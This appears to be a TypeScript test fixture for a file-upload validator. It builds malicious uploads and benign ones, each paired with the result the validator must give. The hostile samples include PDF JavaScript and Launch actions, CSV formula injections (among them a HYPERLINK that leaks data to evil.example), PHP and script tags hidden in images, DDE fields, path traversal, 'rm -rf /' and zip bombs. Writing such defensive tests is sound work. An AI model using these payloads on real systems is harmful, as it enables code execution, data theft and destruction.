/** Files that somebody might send to do harm, each made here, with the answer that it must get; and files that are right. */
import { deflateSync } from "node:zlib";
import { zip } from "../support/zip.ts";

const latin = (text: string): Buffer => Buffer.from(text, "latin1");

/** A PDF of these objects, the first of them its catalogue. */
export const pdfOf = (...objects: (string | Buffer)[]): Buffer =>
  Buffer.concat([
    latin("%PDF-1.7\n"),
    ...objects.map((object, index) =>
      Buffer.concat([latin(`${index + 1} 0 obj\n`), Buffer.from(object), latin("\nendobj\n")]),
    ),
    latin("trailer << /Root 1 0 R >>\n%%EOF\n"),
  ]);

export const catalogue = "<< /Type /Catalog /Pages 2 0 R >>";
export const pages = (count: number): string[] => [
  `<< /Type /Pages /Count ${count} >>`,
  ...Array.from({ length: count }, () => "<< /Type /Page /Parent 2 0 R >>"),
];
const plainPdf = pdfOf(catalogue, ...pages(1));
const withAction = (action: string): Buffer =>
  pdfOf(`<< /Type /Catalog /OpenAction ${action} >>`, ...pages(1));

export const stream = (dictionary: string, bytes: Buffer): Buffer =>
  Buffer.concat([
    latin(`<< ${dictionary} /Length ${bytes.length} >>\nstream\n`),
    bytes,
    latin("\nendstream"),
  ]);
const packedObjects = (text: string, more = ""): Buffer =>
  pdfOf(
    catalogue,
    stream(`/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ${more}`, deflateSync(latin(text))),
  );

const chunk = (type: string, data: Buffer): Buffer => {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  return Buffer.concat([length, latin(type), data, Buffer.alloc(4)]);
};
const dimensions = (width: number, height: number): Buffer => {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  return head;
};
export const pngOf = (width: number, height: number, ...more: Buffer[]): Buffer =>
  Buffer.concat([
    latin("\x89PNG\r\n\x1A\n"),
    chunk("IHDR", dimensions(width, height)),
    ...more,
    chunk("IDAT", Buffer.alloc(8)),
    chunk("IEND", Buffer.alloc(0)),
  ]);
const segment = (marker: number, data: Buffer): Buffer => {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(data.length + 2, 2);
  return Buffer.concat([head, data]);
};
export const jpegOf = (width: number, height: number, ...more: Buffer[]): Buffer => {
  const frame = Buffer.alloc(15);
  frame[0] = 8;
  frame.writeUInt16BE(height, 1);
  frame.writeUInt16BE(width, 3);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    ...more,
    segment(0xc0, frame),
    segment(0xda, Buffer.alloc(10)),
    Buffer.from([0x11, 0x22, 0xff, 0xd9]),
  ]);
};
const webpOf = (width: number, height: number): Buffer => {
  const bytes = Buffer.alloc(30);
  bytes.write("RIFF", 0, "latin1");
  bytes.writeUInt32LE(22, 4);
  bytes.write("WEBPVP8X", 8, "latin1");
  bytes.writeUInt32LE(10, 16);
  bytes.writeUIntLE(width - 1, 24, 3);
  bytes.writeUIntLE(height - 1, 27, 3);
  return bytes;
};

const types = '<Types xmlns="t"/>';
export const word = (files: Record<string, string | Buffer> = {}): Buffer =>
  zip({ "[Content_Types].xml": types, "word/document.xml": "<w:document/>", ...files });
export const sheet = (files: Record<string, string | Buffer> = {}): Buffer =>
  zip({ "[Content_Types].xml": types, "xl/workbook.xml": "<workbook/>", ...files });
const wide = (text: string): Buffer => Buffer.from(text, "utf16le");
const older = (...names: string[]): Buffer =>
  Buffer.concat([
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    Buffer.alloc(504),
    ...names.map((name) => Buffer.concat([wide(name), Buffer.alloc(64)])),
  ]);
const relation = (more: string): string => `<Relationships><Relationship Id="1" ${more}/></Relationships>`;
const text = (value: string): Buffer => Buffer.from(value);

const tablesThatCompute = [
  "-2+3+cmd|' /C calc'!A0",
  '+1+HYPERLINK("http://evil.example/?"&B1)',
  "+ SUM(1)",
  "- SUM(1)",
  "-.1+cmd|'/C calc'!A0",
  "-A1",
  "\uFF1D1+1",
  "\uFF0Bcmd|' /C calc'!A0",
  "\uFF20SUM(1)",
  "\u00A0=1+1",
  "\u200B=1+1",
  "a|=cmd",
];
const tableOfNumbers = [
  "-1.234,50",
  "-1234.5",
  "-$1.234.567",
  "-1.234 CLP",
  "-UF 12,5",
  "-5 %",
  "- 1 234,50 \u20AC",
  "+1.5E+10",
  "+56 9 1234 5678",
  "+56-2-2345-6789",
  "+56 (9) 1234 5678",
  "-",
  "--",
  "a=b",
  "ana@correo.cl",
  "2-1",
].join(";");

/** What it is; its name; its bytes; the sentence that says why it is refused. */
export type HostileFile = [what: string, name: string, bytes: Buffer, sentence: string];

export const hostileFiles: HostileFile[] = [
  // What it is not.
  ["nothing", "a.pdf", Buffer.alloc(0), "file-empty"],
  ["too much", "a.pdf", Buffer.concat([plainPdf, Buffer.alloc(10 * 1024 * 1024)]), "file-too-large"],
  ["a page as PDF", "a.pdf", text("<!doctype html><script>1</script>"), "file-type.content"],
  ["a drawing", "a.svg", text("<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"), "file-type.content"],
  ["a drawing as PNG", "a.png", text("<svg xmlns='http://www.w3.org/2000/svg'/>"), "file-type.content"],
  ["a drawing with its XML line", "a.png", text("<?xml version='1.0'?><svg/>"), "file-type.content"],
  ["a program of Windows", "a.pdf", latin("MZ\x90\0\x03"), "file-type.accepted"],
  ["a program of Linux", "a.pdf", latin("\x7FELF\x02\x01"), "file-type.accepted"],
  ["a script", "a.pdf", text("#!/bin/sh\nrm -rf /"), "file-type.accepted"],
  ["an archive", "a.docx", zip({ "a.exe": "MZ" }), "file-type.accepted"],
  ["a PDF as picture", "a.png", plainPdf, "file-type.content"],
  ["a picture as PDF", "a.pdf", pngOf(10, 10), "file-type.content"],
  ["a JPEG as PNG", "a.png", jpegOf(10, 10), "file-type.content"],
  ["a Word document as Excel's", "a.xlsx", word(), "file-type.content"],
  ["a PDF with two endings", "a.pdf.exe", plainPdf, "file-type.content"],
  ["a PDF without an ending", "pdf", plainPdf, "file-type.content"],
  ["a PDF that begins later", "a.pdf", Buffer.concat([latin("GIF89a\n"), plainPdf]), "file-type.content"],
  // Names.
  ["a name of signs that nobody sees", "\u0000\u202E\u200B", plainPdf, "file-name"],
  ["a name that is a folder", "../../", plainPdf, "file-name"],
  ["a name without end", `${"a".repeat(300)}.pdf`, plainPdf, "file-name"],
  ["half a sign", "\uD800.pdf", plainPdf, "file-name"],
  ["a name that is turned round", "fdp\u202Eexe", plainPdf, "file-type.content"],
  // PDF.
  [
    "a program at opening",
    "a.pdf",
    withAction("<< /S /JavaScript /JS (app.alert(1)) >>"),
    "file-type.active",
  ],
  ["a program, spelt in hex", "a.pdf", withAction("<< /S /J#61vaScript /JS (x) >>"), "file-type.active"],
  [
    "a program, all in hex",
    "a.pdf",
    withAction("<< /S /#4a#61#76#61#53#63#72#69#70#74 >>"),
    "file-type.active",
  ],
  ["programs by name", "a.pdf", pdfOf("<< /Names << /JavaScript 3 0 R >> >>"), "file-type.active"],
  ["a command", "a.pdf", withAction("<< /S /Launch /F (cmd.exe) >>"), "file-type.active"],
  ["another file inside", "a.pdf", pdfOf("<< /Names << /EmbeddedFiles 3 0 R >> >>"), "file-type.active"],
  ["one file inside", "a.pdf", pdfOf(catalogue, "<< /Type /EmbeddedFile >>"), "file-type.active"],
  [
    "a form that is sent",
    "a.pdf",
    withAction("<< /S /SubmitForm /F (http://a.example) >>"),
    "file-type.active",
  ],
  ["data that comes in", "a.pdf", withAction("<< /S /ImportData >>"), "file-type.active"],
  ["a document in a document", "a.pdf", withAction("<< /S /GoToE >>"), "file-type.active"],
  ["a film", "a.pdf", pdfOf(catalogue, "<< /Subtype /RichMedia >>"), "file-type.active"],
  ["a rendition", "a.pdf", withAction("<< /S /Rendition >>"), "file-type.active"],
  ["a form with programs", "a.pdf", pdfOf("<< /AcroForm << /XFA [ 3 0 R ] >> >>"), "file-type.active"],
  ["a password", "a.pdf", pdfOf(catalogue, "<< /Encrypt 5 0 R >>"), "file-type.locked"],
  ["a program in packed objects", "a.pdf", packedObjects("1 0 << /S /JavaScript >>"), "file-type.active"],
  ["packed objects in hex", "a.pdf", packedObjects("1 0 << /S /J#61vaScript >>"), "file-type.active"],
  [
    "objects packed in another way",
    "a.pdf",
    pdfOf(stream("/Type /ObjStm /Filter /LZWDecode", latin("x"))),
    "file-type.damaged",
  ],
  [
    "objects packed twice",
    "a.pdf",
    pdfOf(stream("/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]", latin("x"))),
    "file-type.damaged",
  ],
  [
    "packed objects that are none",
    "a.pdf",
    pdfOf(stream("/Type /ObjStm /Filter /FlateDecode", latin("x"))),
    "file-type.damaged",
  ],
  [
    "a bomb of packed objects",
    "a.pdf",
    pdfOf(stream("/Type /ObjStm /Filter /FlateDecode", deflateSync(Buffer.alloc(20_000_000)))),
    "file-too-large.unpacked",
  ],
  ["far too many pages", "a.pdf", pdfOf(catalogue, ...pages(201)), "file-too-large.pages"],
  [
    "pages in packed objects",
    "a.pdf",
    packedObjects("<< /Type /Page >> ".repeat(300)),
    "file-too-large.pages",
  ],
  [
    "a program behind a megabyte",
    "a.pdf",
    pdfOf(catalogue, " ".repeat(1_200_000), "<< /S /JavaScript >>"),
    "file-type.active",
  ],
  [
    "a PDF that is a page",
    "a.pdf",
    Buffer.concat([latin("%PDF-1.7\n<html ><script>1</script>"), plainPdf]),
    "file-type.mixed",
  ],
  ["a PDF that is an archive", "a.pdf", Buffer.concat([plainPdf, zip({ "a.exe": "MZ" })]), "file-type.mixed"],
  // Pictures.
  ["a PNG of a billion pixels", "a.png", pngOf(40_000, 30_000), "file-too-large.pixels"],
  ["a PNG of no pixels", "a.png", pngOf(0, 10), "file-type.damaged"],
  ["a PNG that is cut off", "a.png", pngOf(10, 10).subarray(0, 40), "file-type.damaged"],
  [
    "a PNG with something behind it",
    "a.png",
    Buffer.concat([pngOf(10, 10), latin("MZ\x90")]),
    "file-type.mixed",
  ],
  [
    "a PNG with a page in a comment",
    "a.png",
    pngOf(10, 10, chunk("tEXt", latin("a\0<script>alert(1)</script>"))),
    "file-type.mixed",
  ],
  [
    "a PNG with PHP",
    "a.png",
    pngOf(10, 10, chunk("tEXt", latin("a\0<?php system('id'); ?>"))),
    "file-type.mixed",
  ],
  ["a PNG that is a PDF", "a.png", pngOf(10, 10, chunk("tEXt", plainPdf)), "file-type.mixed"],
  ["a JPEG of a billion pixels", "a.jpg", jpegOf(60_000, 60_000), "file-too-large.pixels"],
  ["a JPEG of a head alone", "a.jpg", Buffer.from([0xff, 0xd8, 0xff, 0xe0]), "file-type.damaged"],
  [
    "a JPEG with a page in a comment",
    "a.jpg",
    jpegOf(9, 9, segment(0xfe, latin("<html ><body>"))),
    "file-type.mixed",
  ],
  ["a JPEG that is a PDF", "a.jpg", jpegOf(9, 9, segment(0xfe, latin("%PDF-1.4"))), "file-type.mixed"],
  [
    "a JPEG that is an archive",
    "a.jpg",
    Buffer.concat([jpegOf(9, 9), zip({ "a.js": "1" })]),
    "file-type.mixed",
  ],
  ["a WebP of a billion pixels", "a.webp", webpOf(50_000, 50_000), "file-too-large.pixels"],
  ["a WebP that says more than it has", "a.webp", webpOf(9, 9).subarray(0, 24), "file-type.damaged"],
  [
    "a WebP with something behind it",
    "a.webp",
    Buffer.concat([webpOf(9, 9), latin("MZ\x90\0MZ")]),
    "file-type.mixed",
  ],
  // Office.
  ["a document with macros", "a.docx", word({ "word/vbaProject.bin": "x" }), "file-type.accepted"],
  ["a sheet with old macros", "a.xlsx", sheet({ "xl/macrosheets/sheet1.xml": "x" }), "file-type.active"],
  [
    "a document with a file inside",
    "a.docx",
    word({ "word/embeddings/oleObject1.bin": "x" }),
    "file-type.active",
  ],
  [
    "a template from elsewhere",
    "a.docx",
    word({
      "word/_rels/settings.xml.rels": relation(
        'Type="http://x/attachedTemplate" Target="http://a.example/t.dotm" TargetMode="External"',
      ),
    }),
    "file-type.active",
  ],
  [
    "a sheet that reads another",
    "a.xlsx",
    sheet({ "xl/externalLinks/externalLink1.xml": "x" }),
    "file-type.active",
  ],
  [
    "a field that starts a program",
    "a.docx",
    word({ "word/document.xml": "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>" }),
    "file-type.active",
  ],
  [
    "such a field in pieces",
    "a.docx",
    word({ "word/document.xml": "<w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText>" }),
    "file-type.active",
  ],
  [
    "types of macros",
    "a.docx",
    word({ "[Content_Types].xml": "<Override ContentType='x.macroEnabled.main+xml'/>" }),
    "file-type.active",
  ],
  ["an entry that leads out", "a.docx", word({ "../../etc/cron.d/x": "x" }), "file-type.damaged"],
  ["an entry twice", "a.docx", word({ "Word/Document.xml": "x" }), "file-type.damaged"],
  ["a bomb", "a.docx", word({ "word/media/a.xml": "0".repeat(30_000_000) }), "file-too-large.unpacked"],
  ["a document that is cut off", "a.docx", word().subarray(0, 90), "file-type.accepted"],
  ["an old document with macros", "a.doc", older("WordDocument", "_VBA_PROJECT"), "file-type.active"],
  ["an old document with a file inside", "a.doc", older("WordDocument", "ObjectPool"), "file-type.active"],
  ["an old sheet with a file inside", "a.xls", older("Workbook", "Ole10Native"), "file-type.active"],
  ["a document with a password", "a.doc", older("EncryptedPackage", "WordDocument"), "file-type.locked"],
  ["a compound file of something else", "a.msi", older("Installer"), "file-type.accepted"],
  // Tables as text.
  ["a table with a command", "a.csv", text("nombre;monto\n=cmd|' /C calc'!A0;1"), "file-type.active"],
  ["a table with a formula in quotes", "a.csv", text('a,"=HYPERLINK(1)"'), "file-type.active"],
  ["a table with an address", "a.csv", text("@SUM(1+1)*cmd"), "file-type.active"],
  ...tablesThatCompute.map((cell): HostileFile => [
    `a table with the cell ${cell}`,
    "a.csv",
    text(`nombre;monto\nAna;${cell}\n`),
    "file-type.active",
  ]),
  ["a table that names its own sign", "a.csv", text("sep=x\nAnax=1+1"), "file-type.active"],
  [
    "a formula far behind",
    "a.csv",
    text(`a;${" ".repeat(65_530)}\n${"\u00A0".repeat(40_000)}=1+1`),
    "file-type.active",
  ],
  ["a table that is a page", "a.csv", text("<table><tr><td>"), "file-type.mixed"],
  ["a table with signs of control", "a.csv", text(`${"a;b\n".repeat(200)}\u0001`), "file-type.damaged"],
];

/** What it is; its name; its bytes; its type. */
export type RightFile = [what: string, name: string, bytes: Buffer, type: string];

export const rightFiles: RightFile[] = [
  ["a PDF", "carnet.pdf", plainPdf, "application/pdf"],
  ["a PDF of 200 pages", "contrato.PDF", pdfOf(catalogue, ...pages(200)), "application/pdf"],
  ["a PDF with packed objects", "a.pdf", packedObjects("1 0 << /Type /Page >>"), "application/pdf"],
  ["a PDF with a link", "a.pdf", withAction("<< /S /URI /URI (https://a.example) >>"), "application/pdf"],
  ["a PNG", "a.png", pngOf(4000, 3000), "image/png"],
  ["a JPEG", "foto.jpeg", jpegOf(4032, 3024, segment(0xe1, latin("Exif\0\0"))), "image/jpeg"],
  [
    "a JPEG with a few signs of a page by chance",
    "a.jpg",
    jpegOf(9, 9, segment(0xfe, latin("\x9F<%@ \x01\xC3<sVg>\x02<svg\xA0\xFE"))),
    "image/jpeg",
  ],
  ["a JPEG with a film behind it", "a.jpg", Buffer.concat([jpegOf(9, 9), latin("ftypmp42")]), "image/jpeg"],
  ["a WebP", "a.webp", webpOf(100, 100), "image/webp"],
  [
    "a Word document with a link",
    "a.docx",
    word({
      "word/_rels/document.xml.rels": relation(
        'Type="http://x/relationships/hyperlink" Target="https://a.example" TargetMode="External"',
      ),
    }),
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
  ],
  [
    "a sheet with its printer",
    "a.xlsx",
    sheet({ "xl/printerSettings/printerSettings1.bin": "x" }),
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
  ],
  ["an old document", "a.doc", older("WordDocument"), "application/msword"],
  ["an old sheet", "a.xls", older("Workbook"), "application/vnd.ms-excel"],
  ["a table of numbers with signs", "a.csv", text(`${tableOfNumbers}\n`), "text/csv"],
  ["a table of empty lines", "a.csv", text(`a,${"\n".repeat(64 * 1024)}x`), "text/csv"],
  ["a table", "a.csv", text("\uFEFFnombre;monto\nAna;-5\nÑandú;+7,5\n"), "text/csv"],
];
